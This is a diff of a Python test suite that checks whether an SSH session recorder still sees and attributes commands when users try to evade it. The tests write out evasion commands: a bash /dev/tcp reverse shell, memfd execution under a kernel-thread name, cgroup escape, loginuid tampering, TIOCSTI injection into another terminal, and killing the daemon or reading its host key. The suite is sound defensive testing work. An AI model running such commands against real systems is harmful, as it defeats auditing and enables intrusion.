@@ -1,11 +1,15 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
 """Ways around a recorder, tried under a real sshd: each is seen, and it is
-seen whose it was. What cannot be seen stands in docs/limits.md."""
+seen whose it was. What cannot be seen stands in docs/limits.md; what root does
+to the daemon, in attacked_test.py. The programs that are run there lie in
+evasion/."""
 import base64
 import contextlib
 import os
-import signal
+import shlex
+import shutil
+import socket
 import struct
 import subprocess
 import sys
@@ -13,13 +17,36 @@ import time
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, os.path.join(HERE, "..", "lib"))
+import plays
 from audittest import audit_as_found, auditctl
 from daemontest import Daemon, wait_for
+from plays import case
 from sshdtest import free_port, need_taps, watched_host
-from trailtest import Skip, case, check, equal, main
+from terminaltest import export
+from trailtest import Skip, check, equal
 
 TAPS = "bpf: auto, terminals: auto, audit: off, journal: off, wtmp: off, " \
     "btmp: off"
+
+
+class Told:
+    """All events that the daemon has told so far; they are asked for again
+    only when something is missing, as all cases look at the same."""
+
+    def __init__(self):
+        self.events = []
+
+    def ask(self):
+        self.events = watch.found("search", "--all", "--since", "all",
+                                  "--oldest-first", "--limit", "0")
+        return self.events
+
+    def wait(self, what, find):
+        """What find(events) finds, once it does."""
+        return find(self.events) or wait_for(what, lambda: find(self.ask()))
+
+
+told = Told()
 
 
 def ssh(*args, user=None, **kwargs):
@@ -29,135 +56,128 @@ def ssh(*args, user=None, **kwargs):
 
 
 class Session:
-    """One login, known by the port that its client had."""
+    """One login, known by the address and port that its client had."""
 
-    def __init__(self, command, *options, user=None, addr="127.0.0.1",
-                 expect=0):
-        done = subprocess.run(
-            ssh(*options, "echo $SSH_CLIENT; " + command, user=user, at=addr),
-            stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
-        if expect is not None and done.returncode != expect:
-            raise AssertionError("ssh ended with %d: %s%s" % (
-                done.returncode, done.stdout.decode(errors="replace"),
-                done.stderr.decode(errors="replace")))
-        first, _, self.out = done.stdout.partition(b"\n")
-        self.addr, self.port = first.split()[0].decode(), int(first.split()[1])
+    def __init__(self, client, out=b""):
+        self.addr, self.port = client.split()[0].decode(), int(client.split()[1])
+        self.out = out
+
+    def events(self, events):
+        """Those of this session among `events`."""
+        ids = {e["session"] for e in events if e["kind"] == "session.open" and
+               (e.get("addr"), e.get("port")) == (self.addr, self.port)}
+        return [e for e in events if e.get("session") in ids]
+
+    def sees(self, kind, test=lambda e: True, n=1):
+        """The events of this session that test() is true of: n of them."""
+        def find(events):
+            found = [e for e in self.events(events)
+                     if e["kind"] == kind and test(e)]
+            return len(found) >= n and found
+        return told.wait("%s in the session from port %d" % (kind, self.port),
+                         find)
 
     def id(self):
-        """As ls has it."""
-        def find():
-            return [s["session"] for s in watch.found(
-                "ls", "--since", "all", "--limit", "0")
-                if s.get("port") == self.port and s["addr"] == self.addr]
-        return wait_for("session from port %d" % self.port, find)[-1]
+        return self.sees("session.open")[0]["session"]
 
-    def events(self, kind):
-        return watch.found("search", "--since", "all", "--oldest-first",
-                           "--limit", "0", "--session", self.id(), "--kind",
-                           kind)
-
-    def sees(self, kind, test, n=1):
-        """The events of this session that test() is true of: n of them."""
-        def find():
-            found = [e for e in self.events(kind) if test(e)]
-            return len(found) >= n and found
-        return wait_for("%s in session %s" % (kind, self.id()), find)
+    def recording(self):
+        """What its terminal showed."""
+        close = self.sees("channel.close",
+                          lambda e: e["chan_type"] == "terminal")[-1]
+        return export(watch, close).decode(errors="replace")
 
     def runs(self, *argv):
         return self.sees("exec", lambda e: e["argv"] == list(argv))[-1]
 
+    def connects(self, port):
+        return self.sees("net.connect", lambda e: e["port"] == port)[-1]
+
+
+def log_in(command, *options, expect=0, **kwargs):
+    """A session that runs a command and is over."""
+    done = subprocess.run(
+        ssh(*options, "echo $SSH_CLIENT; " + command, **kwargs),
+        stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
+    if expect is not None and done.returncode != expect:
+        raise AssertionError("ssh ended with %d: %s%s" % (
+            done.returncode, done.stdout.decode(errors="replace"),
+            done.stderr.decode(errors="replace")))
+    client, _, out = done.stdout.partition(b"\n")
+    return Session(client, out)
+
+
+class Open:
+    """A session that goes on until it is ended."""
+
+    def __init__(self, command, *options):
+        self.process = subprocess.Popen(
+            ssh(*options, "echo $SSH_CLIENT; " + command),
+            stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        self.session = Session(self.line())
+
+    def line(self):
+        return self.process.stdout.readline()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        with contextlib.suppress(OSError):
+            self.process.stdin.close()
+        self.process.kill()
+        self.process.wait()
+        self.process.stdout.close()
+
+
+def python(name, *args):
+    """The command that runs a program of evasion/."""
+    with open(os.path.join(HERE, "evasion", name)) as f:
+        return shlex.join(["python3", "-c", f.read(), *map(str, args)])
+
+
+# --- what is not what it looks like ---
 
 @case
 def encoded_scripts():
     """Commands that no screen shows: base64 to a shell"""
     hidden = base64.b64encode(b"/bin/echo hidden in base64\n").decode()
-    Session("echo %s | base64 -d | sh >/dev/null" % hidden).runs(
-        "/bin/echo", "hidden", "in", "base64")
+    s = log_in("echo %s | base64 -d | sh >/dev/null" % hidden)
+    yield
+    s.runs("/bin/echo", "hidden", "in", "base64")
 
 
 @case
 def no_echo():
     """Typed while the terminal shows nothing"""
-    Session("stty -echo; /bin/true unseen", "-tt").runs("/bin/true", "unseen")
+    s = log_in("stty -echo; /bin/true unseen", "-tt")
+    yield
+    s.runs("/bin/true", "unseen")
 
 
 @case
-def second_channel():
-    """Another channel of a connection that is open"""
-    path = sshd.path("mux")
-    master = subprocess.Popen(
-        ssh("-M", "-S", path, "echo $SSH_CLIENT; sleep 60"),
-        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
-    first = master.stdout.readline().split()
-    try:
-        second = Session("/bin/true second channel", "-S", path)
-        equal(second.port, int(first[1]))
-        second.runs("/bin/true", "second", "channel")
-    finally:
-        subprocess.run(ssh("-S", path, "-O", "exit", ""),
-                       capture_output=True)
-        master.kill()
-        master.wait()
-        master.stdout.close()
+def past_the_login_shell():
+    """A command in the shell's place, which would start a recorder"""
+    s = log_in("exec bash --noprofile --norc -c '/bin/true past the shell; "
+               "echo shown'", "-tt")
+    yield
+    s.runs("/bin/true", "past", "the", "shell")
+    check("shown" in s.recording(), "it is not recorded")
 
 
 @case
-def forwards():
-    """A forward to somewhere else: the connection that sshd makes for it"""
-    port = free_port()
-    forward = subprocess.Popen(
-        ssh("-L", "%d:127.0.0.1:%d" % (port, sshd.port),
-                 "echo $SSH_CLIENT; sleep 60"),
-        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
-    client = int(forward.stdout.readline().split()[1])
-    try:
-        inner = subprocess.run(
-            ssh("echo $SSH_CLIENT", port=port),
-            stdin=subprocess.DEVNULL, capture_output=True)
-        equal(inner.returncode, 0, inner.stderr)
-        outer = Session.__new__(Session)
-        outer.port, outer.addr = client, "127.0.0.1"
-        made = outer.sees("net.connect", lambda e: e["port"] == sshd.port)
-        # Its local end is the client that the inner session came from.
-        equal(made[-1]["lport"], int(inner.stdout.split()[1]))
-        # So a story goes on with that one.
-        hop, = wait_for("the hop", lambda: [
-            s for s in watch.found("story", outer.id(), "--all")
-            if "hop" in s and s["port"] == made[-1]["lport"]])
-        equal((hop["hop"], hop["hop_from"]), ("port", outer.id()))
-    finally:
-        forward.kill()
-        forward.wait()
-        forward.stdout.close()
-
-
-@case
-def left_behind():
-    """What goes on after the end: setsid, nohup, two forks"""
-    s = Session("(setsid nohup sh -c 'sleep 1; /bin/true left behind' "
-                ">/dev/null 2>&1 &)")
-    s.sees("session.close", lambda e: True)
-    s.runs("/bin/true", "left", "behind")
-
-
-@case
-def deep_chains():
-    """Thirty shells, one in the other, the outer ones gone"""
-    with open(sshd.path("deep"), "w") as f:
-        f.write('[ $1 -gt 0 ] || exec /bin/true deep\n'
-                'sh "$0" $(($1 - 1)) &\n')
-    Session("sh %s 30; sleep 1" % sshd.path("deep")).runs("/bin/true", "deep")
-
-
-def quote(text):
-    return "'" + text.replace("'", "'\\''") + "'"
+def a_transfer_that_is_none():
+    """What looks like scp to who looks at the begin of the command"""
+    s = log_in("scp -t nowhere </dev/null >/dev/null 2>&1; /bin/true behind")
+    yield
+    s.runs("/bin/true", "behind")
 
 
 @case
 def other_names():
     """A program by another name: argv[0], a copy, a link"""
-    s = Session("cp /bin/true ./sshd; ln -s /bin/true innocent; "
-                "./sshd copied; ./innocent linked; exec -a crond true fake")
+    s = log_in("cp /bin/true ./sshd; ln -s /bin/true innocent; "
+               "./sshd copied; ./innocent linked; exec -a crond true fake")
+    yield
     copied, linked = s.runs("./sshd", "copied"), s.runs("./innocent", "linked")
     fake = s.runs("crond", "fake")
     true = os.path.realpath("/bin/true")
@@ -167,82 +187,70 @@ def other_names():
 
 
 @case
-def floods():
-    """One command among thousands"""
-    s = Session("i=0; while [ $i -lt 1000 ]; do /bin/true; i=$((i+1)); done; "
-                "/bin/true in the flood; "
-                "i=0; while [ $i -lt 500 ]; do /bin/true; i=$((i+1)); done")
-    s.runs("/bin/true", "in", "the", "flood")
-    s.sees("exec", lambda e: e["argv"] == ["/bin/true"], 1500)
-
-
-@case
-def long_arguments():
-    """What matters stands behind 100 KB of arguments"""
-    s = Session("/bin/true $(head -c 100000 /dev/zero | tr '\\0' x) "
-                "$(seq 3000) payload")
-    long = s.sees("exec", lambda e: e["argv"][-1] == "payload")[-1]
-    equal((len(long["argv"]), len(long["argv"][1])), (3003, 100000))
-    check("cut" not in long and "partial" not in long, "it is whole")
-
-
-RACE = r'''
-import ctypes, os, sys, threading
-libc = ctypes.CDLL(None)
-text = ctypes.create_string_buffer(b"A" * 64)
-argv = (ctypes.c_char_p * 3)(b"cat", b"/proc/self/cmdline", None)
-words = (ctypes.c_void_p * 4)(ctypes.addressof(ctypes.create_string_buffer(
-    b"sh")), 0, ctypes.addressof(text), 0)
-for i in range(60):
-    pid = os.fork()
-    if pid == 0:
-        def change():
-            while True:
-                ctypes.memset(text, 65 + int.from_bytes(os.urandom(1), "big")
-                              % 26, 64)
-        threading.Thread(target=change, daemon=True).start()
-        keep = [ctypes.create_string_buffer(b) for b in
-                (b"sh", b"-c", b"tr '\\0' ' ' </proc/$$/cmdline; echo")]
-        words = (ctypes.c_void_p * 5)(*[ctypes.addressof(k) for k in keep],
-                                      ctypes.addressof(text), 0)
-        libc.execve(b"/bin/sh", words, None)
-        os._exit(1)
-    os.waitpid(pid, 0)
-'''
+def name_of_another():
+    """A process that calls itself sshd (prctl)"""
+    s = log_in(python("renamed.py", sshd.port))
+    yield
+    e = s.connects(sshd.port)
+    equal((e["comm"], os.path.basename(e["exe"])[:6]), ("sshd", "python"))
 
 
 @case
 def racing_memory():
     """Arguments that another thread changes during the exec"""
-    s = Session("python3 -c %s" % quote(RACE))
+    s = log_in(python("racing.py"))
+    yield
     # What the programs themselves found as their arguments.
     ran = sorted(line.split()[-1] for line in s.out.decode().splitlines())
-    equal(len(ran), 60)
-    told = s.sees("exec", lambda e: len(e["argv"]) == 4 and
-                  len(e["argv"][3]) == 64, 60)
-    equal(sorted(e["argv"][3] for e in told), ran)
+    equal(len(ran), 20)
+    found = s.sees("exec", lambda e: len(e["argv"]) == 4 and
+                   len(e["argv"][3]) == 64, len(ran))
+    equal(sorted(e["argv"][3] for e in found), ran)
 
 
-MEMFD = r'''
-import os, sys
-fd = os.memfd_create("nothing here", 0)
-os.write(fd, open("/bin/true", "rb").read())
-os.execve(fd, ["kworker/0:1", "from memory"], {})
-'''
+@case
+def long_arguments():
+    """What matters stands behind 100 KB of arguments"""
+    s = log_in("/bin/true $(head -c 100000 /dev/zero | tr '\\0' x) "
+               "$(seq 3000) payload")
+    yield
+    long = s.sees("exec", lambda e: e["argv"][-1] == "payload")[-1]
+    equal((len(long["argv"]), len(long["argv"][1])), (3003, 100000))
+    check("cut" not in long and "partial" not in long, "it is whole")
 
+
+@case
+def escape_sequences():
+    """Arguments aimed at whoever reads them"""
+    s = log_in("/bin/true $'\\e]0;owned\\a\\e[2J\\e[31m' $'\\u202e'")
+    yield
+    s.sees("exec", lambda e: e["argv"][0] == "/bin/true")
+    for out in (watch.run("show", "--since", "all", s.id()).stdout,
+                watch.run("search", "--since", "all", "--session", s.id(),
+                          "--kind", "exec").stdout):
+        out = out.decode()
+        check("owned" in out, out)
+        bad = [c for c in out if (ord(c) < 32 and c != "\n") or
+               ord(c) in (0x7f, 0x202e)]
+        equal(bad, [], "control characters")
+
+
+# --- programs that are none ---
 
 @case
 def without_a_file():
     """A program that has no file: memfd and execveat"""
-    e = Session("python3 -c %s" % quote(MEMFD)).runs("kworker/0:1",
-                                                     "from memory")
-    equal(e["exe"], "/memfd:nothing here (deleted)")
+    s = log_in(python("memfd.py"))
+    yield
+    equal(s.runs("kworker/0:1", "from memory")["exe"],
+          "/memfd:nothing here (deleted)")
 
 
 @case
 def deleted_file():
     """A program that is deleted while it runs"""
-    s = Session("cp /bin/sleep ./gone; ./gone 0.5 & sleep 0.2; rm gone; wait")
+    s = log_in("cp /bin/sleep ./gone; ./gone 0.5 & sleep 0.2; rm gone; wait")
+    yield
     equal(s.runs("./gone", "0.5")["exe"], sshd.person.home + "/gone")
 
 
@@ -268,54 +276,178 @@ def tiny(path, bits):
     return path
 
 
+def raw_program(bits):
+    path = tiny(sshd.path("tiny%d" % bits), bits)
+    try:
+        if subprocess.run([path], stderr=subprocess.DEVNULL).returncode:
+            raise OSError
+    except OSError:
+        raise Skip("this kernel runs no %d-bit programs" % bits)
+    s = log_in("%s raw" % path)
+    yield
+    s.runs(path, "raw")
+
+
 @case
 def static_programs():
     """No library that could be preloaded, no system call by libc"""
-    path = tiny(sshd.path("tiny64"), 64)
-    Session("%s raw" % path).runs(path, "raw")
-
-
-def runs(path):
-    try:
-        return subprocess.run([path], stderr=subprocess.DEVNULL).returncode == 0
-    except OSError:
-        return False
+    yield from raw_program(64)
 
 
 @case
 def other_architecture():
     """A 32-bit program on a 64-bit kernel"""
-    path = tiny(sshd.path("tiny32"), 32)
-    if not runs(path):
-        raise Skip("this kernel runs no 32-bit programs")
-    Session("%s raw" % path).runs(path, "raw")
+    yield from raw_program(32)
 
 
 @case
 def builtins():
     """No program at all: a shell connects by itself"""
-    s = Session("exec 3<>/dev/tcp/127.0.0.1/%d; read -u 3 line" % sshd.port)
-    e = s.sees("net.connect", lambda e: e["port"] == sshd.port)[-1]
-    equal(os.path.basename(e["exe"]), "bash")
+    s = log_in("exec 3<>/dev/tcp/127.0.0.1/%d; read -u 3 line" % sshd.port)
+    yield
+    equal(os.path.basename(s.connects(sshd.port)["exe"]), "bash")
 
 
 @case
-def killing_it():
-    """A user kills the daemon and removes its files: he may not"""
-    pid = watch.process.pid
-    s = Session("kill -9 %s; rm -rf %s; cat %s/keys/host.key; true" % (
-        " ".join(map(str, watch.pids())), watch.dir, watch.dir))
-    equal(s.out, b"")
-    equal((watch.process.poll(), watch.process.pid), (None, pid))
-    s.runs("rm", "-rf", watch.dir)
+def through_a_ring():
+    """A connection by io_uring, without a system call for it"""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        s = log_in(python("ring.py", port) + "; echo $?")
+    if s.out.split()[-1] == b"77":
+        raise Skip("io_uring is not allowed here")
+    equal(s.out, b"0\n")
+    yield
+    s.connects(port)
+
+
+# --- other ways in, and out of the session ---
+
+@case
+def second_channel():
+    """Another channel of a connection that is open"""
+    path = sshd.path("mux")
+    with Open("read line", "-M", "-S", path) as first:
+        second = log_in("/bin/true second channel", "-S", path)
+        equal(second.port, first.session.port)
+    yield
+    second.runs("/bin/true", "second", "channel")
+
+
+@case
+def forwards():
+    """A forward to somewhere else: the connection that sshd makes for it"""
+    port = free_port()
+    with Open("read line", "-L", "%d:127.0.0.1:%d" % (port, sshd.port)) as outer:
+        inner = log_in("true", port=port)
+    yield
+    s = outer.session
+    # Its local end is the client that the inner session came from.
+    equal(s.connects(sshd.port)["lport"], inner.port)
+    # So a story goes on with that one.
+    hop, = wait_for("the hop", lambda: [
+        h for h in watch.found("story", s.id(), "--all")
+        if "hop" in h and h["port"] == inner.port])
+    equal((hop["hop"], hop["hop_from"]), ("port", s.id()))
+
+
+@case
+def ipv6():
+    """A client that comes over IPv6"""
+    s = log_in("/bin/true six", at="::1")
+    yield
+    equal(s.addr, "::1")
+    s.runs("/bin/true", "six")
+
+
+@case
+def left_behind():
+    """What goes on after the end: setsid, nohup, two forks"""
+    s = log_in("(setsid nohup sh -c 'sleep 1; /bin/true left behind' "
+               ">/dev/null 2>&1 &)")
+    yield
+    s.sees("session.close")
+    s.runs("/bin/true", "left", "behind")
+
+
+@case
+def reverse_shell():
+    """A shell that somebody else is asked to type into"""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(60)
+        port = server.getsockname()[1]
+        s = log_in("setsid nohup bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d; "
+                   "bash <&3' >/dev/null 2>&1 &" % port)
+        with server.accept()[0] as shell:
+            shell.sendall(b"/bin/true from afar\n")
+    yield
+    s.connects(port)
+    s.runs("/bin/true", "from", "afar")
+
+
+@case
+def deep_chains():
+    """Thirty shells, one in the other, the outer ones gone"""
+    with open(sshd.path("deep"), "w") as f:
+        f.write('[ $1 -gt 0 ] || exec /bin/true deep\n'
+                'sh "$0" $(($1 - 1)) &\n')
+    s = log_in("sh %s 30" % sshd.path("deep"))
+    yield
+    s.runs("/bin/true", "deep")
+
+
+@case
+def tmux_left_behind():
+    """A tmux server that outlives its session, and another that uses it"""
+    if not shutil.which("tmux"):
+        raise Skip("tmux is not installed")
+    first = log_in("tmux -L evade new-session -d -s kept")
+    second = log_in(
+        "tmux -L evade send-keys -t kept '/bin/true within tmux; "
+        "tmux -L evade wait-for -S done' Enter; tmux -L evade wait-for done; "
+        "tmux -L evade kill-server")
+    yield
+    # It is the doing of the session that started the server: that it was
+    # typed from another one, its send-keys tells.
+    first.runs("/bin/true", "within", "tmux")
+    second.sees("exec", lambda e: "send-keys" in e["argv"])
+
+
+@case
+def typed_for_another():
+    """root types into the terminal of another (TIOCSTI): told as that one's"""
+    with Open("tty; exec sh", "-tt") as victim:
+        tty = victim.line().decode().strip()
+        by = log_in(python("push.py", tty), user="root", expect=None)
+        victim.process.communicate(b"exit\n", timeout=60)
+    yield
+    by.sees("exec", lambda e: e["argv"][-1] == tty)
+    victim.session.runs("/bin/true", "pushed")
+
+
+@case
+def another_cgroup():
+    """root moves itself out of the session's cgroup"""
+    at = sshd.path("cgroup")
+    os.mkdir(at)
+    s = log_in("cd %s && mount -t cgroup2 none . && cd . && mkdir sshtrail-evade "
+               "&& echo $$ >sshtrail-evade/cgroup.procs && "
+               "grep sshtrail-evade /proc/self/cgroup && /bin/true outside; "
+               "echo $$ >cgroup.procs; rmdir sshtrail-evade; cd /; umount %s" %
+               (at, at), user="root", expect=None)
+    if b"sshtrail-evade" not in s.out:
+        raise Skip("there are no cgroups (version 2) to be made here")
+    yield
+    s.runs("/bin/true", "outside")
 
 
 @case
 def login_uid_taken_off():
     """root takes the login uid off, which audit's rules ask for"""
-    s = Session("echo 4294967295 >/proc/self/loginuid; /bin/true nobody now; "
-                "(setsid sh -c 'sleep .3; /bin/true nobody later' &)",
-                user="root")
+    s = log_in("echo 4294967295 >/proc/self/loginuid; /bin/true nobody now; "
+               "(setsid sh -c 'sleep .3; /bin/true nobody later' &)",
+               user="root")
+    yield
     s.sees("priv", lambda e: e["type"] == "LEFT")
     for word in ("now", "later"):
         equal(s.runs("/bin/true", "nobody", word)["auid"], 0)
@@ -324,77 +456,66 @@ def login_uid_taken_off():
 @case
 def login_uid_of_another():
     """root takes the login uid of another: a session within his"""
-    s = Session("echo 61234 >/proc/self/loginuid; /bin/true framed",
-                user="root")
-
-    def framed():
-        return [e for e in watch.found(
-            "search", "--all", "--since", "all", "--limit", "0", "--kind",
-            "session.open") if e.get("auid") == 61234]
-    inner = wait_for("the inner session", framed)[0]
-    outer = s.sees("session.open", lambda e: True)[0]
+    s = log_in("echo 61234 >/proc/self/loginuid; /bin/true framed",
+               user="root")
+    yield
+    inner = told.wait("the inner session", lambda events: [
+        e for e in events
+        if e["kind"] == "session.open" and e.get("auid") == 61234])[0]
+    outer = s.sees("session.open")[0]
     equal((inner["old_auid"], inner["old_ses"]), (0, outer["ses"]))
     shown = watch.run("show", "--since", "all",
                       inner["session"]).stdout.decode()
     check("began within another audit session" in shown, shown)
 
 
-@case
-def ipv6():
-    """A client that comes over IPv6"""
-    s = Session("/bin/true six", addr="::1")
-    equal(s.addr, "::1")
-    s.runs("/bin/true", "six")
-
+# --- against the daemon ---
 
 @case
-def escape_sequences():
-    """Arguments aimed at whoever reads them"""
-    s = Session("/bin/true $'\\e]0;owned\\a\\e[2J\\e[31m' $'\\u202e'")
-    s.sees("exec", lambda e: e["argv"][0] == "/bin/true")
-    for out in (watch.run("show", "--since", "all", s.id()).stdout,
-                watch.run("search", "--since", "all", "--session", s.id(),
-                          "--kind", "exec").stdout):
-        out = out.decode()
-        check("owned" in out, out)
-        bad = [c for c in out if (ord(c) < 32 and c != "\n") or
-               ord(c) in (0x7f, 0x202e)]
-        equal(bad, [], "control characters")
-
-
-@case
-def tmux_left_behind():
-    """A tmux server that outlives its session, and another that uses it"""
-    if subprocess.run(["which", "tmux"], capture_output=True).returncode:
-        raise Skip("tmux is not installed")
-    first = Session("tmux -L evade new-session -d -s kept; sleep 0.5")
-    second = Session("tmux -L evade send-keys -t kept "
-                     "'/bin/true within tmux' Enter; sleep 1")
-    # It is the doing of the session that started the server: that it was
-    # typed from another one, its send-keys tells.
-    first.runs("/bin/true", "within", "tmux")
-    second.sees("exec", lambda e: "send-keys" in e["argv"])
-    Session("tmux -L evade kill-server")
+def killing_it():
+    """A user kills the daemon and removes its files: he may not"""
+    pid = watch.process.pid
+    s = log_in("kill -9 %s; rm -rf %s; cat %s/keys/host.key; true" % (
+        " ".join(map(str, watch.pids())), watch.dir, watch.dir))
+    yield
+    equal(s.out, b"")
+    equal((watch.process.poll(), watch.process.pid), (None, pid))
+    s.runs("rm", "-rf", watch.dir)
 
 
 @case
 def detaching_programs():
     """root cannot detach the programs while the daemon lives"""
-    if subprocess.run(["which", "bpftool"], capture_output=True).returncode:
+    if not shutil.which("bpftool"):
         raise Skip("bpftool is not installed")
-    s = Session("""bpftool link list -j |
+    s = log_in("""bpftool link list -j |
         python3 -c 'import json, sys
 for l in json.load(sys.stdin): print(l["id"])' |
         while read id; do bpftool link detach id $id 2>/dev/null; done
         /bin/true still seen""", user="root")
+    yield
     s.runs("/bin/true", "still", "seen")
 
 
-def agent_events(w):
-    return [e for e in w.found("search", "--since", "all", "--oldest-first",
-                               "--limit", "0", "--kind",
-                               "agent,gap,clock") if
-            e["source"] == "sshtraild"]
+@case
+def floods():
+    """One command among hundreds"""
+    s = log_in("for n in $(seq 400); do /bin/true; done; "
+               "/bin/true in the flood; "
+               "for n in $(seq 200); do /bin/true; done")
+    yield
+    s.runs("/bin/true", "in", "the", "flood")
+    s.sees("exec", lambda e: e["argv"] == ["/bin/true"], 600)
+
+
+@case
+def hogs():
+    """Who takes all processors: what he runs is told all the same"""
+    s = log_in("for n in 1 2 3 4; do (while :; do :; done) & done; "
+               "for n in $(seq 100); do /bin/true hog; done; "
+               "kill $(jobs -p)", expect=None)
+    yield
+    s.sees("exec", lambda e: e["argv"] == ["/bin/true", "hog"], 100)
 
 
 @case
@@ -406,85 +527,18 @@ def setting_the_clock():
         except OSError as e:
             raise Skip("the clock cannot be set here: %s" % e)
 
-    def told():
-        return [e["reason"][:22] for e in agent_events(watch)
-                if e["kind"] == "clock"]
+    def changes():
+        return [e["reason"][:22] for e in watch.found(
+            "search", "--all", "--since", "all", "--kind", "clock")
+                if e["source"] == "sshtraild"]
     step(0.8)
     try:
-        wait_for("the clock", lambda: len(told()) == 1)
+        wait_for("the clock", lambda: len(changes()) == 1)
     finally:
         step(-0.8)
-    wait_for("the clock", lambda: len(told()) == 2)
-    equal(sorted(told()),
+    wait_for("the clock", lambda: len(changes()) == 2)
+    equal(sorted(changes()),
           ["the clock was set back", "the clock was set forw"])
-
-
-@case
-def killing_the_monitor():
-    """root kills the monitor: the collector says so with its last words"""
-    with Daemon(TAPS) as w:
-        w.start()
-        w.process.kill()
-        w.process.wait()
-        last = wait_for("the end", lambda: [
-            e for e in agent_events(w) if e["kind"] == "agent.stop"])[-1]
-        check("the monitor is gone" in last["reason"], last)
-        w.process = None
-
-
-def is_there(pid):
-    with contextlib.suppress(OSError):
-        with open("/proc/%d/stat" % pid) as f:
-            state = f.read().rsplit(")", 1)[1].split()[0]
-        # Its other threads may end behind the first one.
-        return state != "Z" or len(os.listdir("/proc/%d/task" % pid)) > 1
-    return False
-
-
-@case
-def killing_it_whole():
-    """root kills all of it: the next one says from when on nothing is known"""
-    with Daemon(TAPS) as w:
-        w.start()
-        was = w.pids()
-        wait_for("its start", lambda: agent_events(w))
-        # At once: none of them has a last word.
-        for number in (signal.SIGSTOP, signal.SIGKILL):
-            for pid in was:
-                os.kill(pid, number)
-        w.process.wait()
-        wait_for("the end of the collector", lambda: not any(
-            is_there(pid) for pid in was))
-        w.start()
-        gap = wait_for("the gap", lambda: [
-            e for e in agent_events(w) if e["kind"] == "gap"])
-        equal(len(gap), 1)
-        check(gap[0]["since"] < gap[0]["until"], gap)
-        check("without a word" in gap[0]["reason"], gap)
-        w.stop()
-        w.start()
-        w.stop()
-        equal(len([e for e in agent_events(w) if e["kind"] == "gap"]), 1)
-
-
-@case
-def starving_it():
-    """root lets the collector stand still: the time is told, and its losses"""
-    with Daemon(TAPS) as w:
-        w.start()
-        collector = w.collector()
-        os.kill(collector, signal.SIGSTOP)
-        try:
-            time.sleep(7)
-        finally:
-            os.kill(collector, signal.SIGCONT)
-        gap = wait_for("the gap", lambda: [
-            e for e in agent_events(w) if e["kind"] == "gap"])
-        equal(len(gap), 1)
-        check("did not get on for" in gap[0]["reason"], gap)
-        check("starved" in gap[0]["reason"], gap)
-        check(gap[0]["since"] < gap[0]["until"], gap)
-        w.stop()
 
 
 @case
@@ -505,20 +559,16 @@ def switching_audit_off():
 
 
 @case
-def removing_the_trail():
-    """root removes a part of the trail: verify says what is missing"""
-    with Daemon(TAPS) as w:
-        w.start()
-        w.stop()
-        segments = sorted(
-            os.path.join(at, name)
-            for at, _, names in os.walk(os.path.join(w.dir, "trail"))
-            for name in names if "checkpoint" not in name)
-        check(segments, "there is a trail")
-        for name in segments:
-            os.remove(name)
-        out = w.run("verify", expect=3).stdout
-        check(b"MISSING" in out or b"TRUNCATED" in out, out)
+def a_long_pause():
+    """Nothing for longer than recorders wait, then on: exec and recording"""
+    begin = time.monotonic()
+    with Open("read line; /bin/true after a pause; echo awake", "-tt") as open_:
+        yield
+        time.sleep(max(0, begin + 32 - time.monotonic()))
+        open_.process.communicate(b"\n", timeout=60)
+    s = open_.session
+    s.runs("/bin/true", "after", "a", "pause")
+    check("awake" in s.recording(), s.recording())
 
 
 @case
@@ -533,7 +583,7 @@ def trail_is_sound():
 try:
     with watched_host("sshtrail-evade", TAPS,
                       listen=("127.0.0.1", "::1")) as (watch, sshd):
-        code = main()
+        code = plays.main()
 except Skip as reason:
     print("1..0 # SKIP %s" % reason)
     code = 0
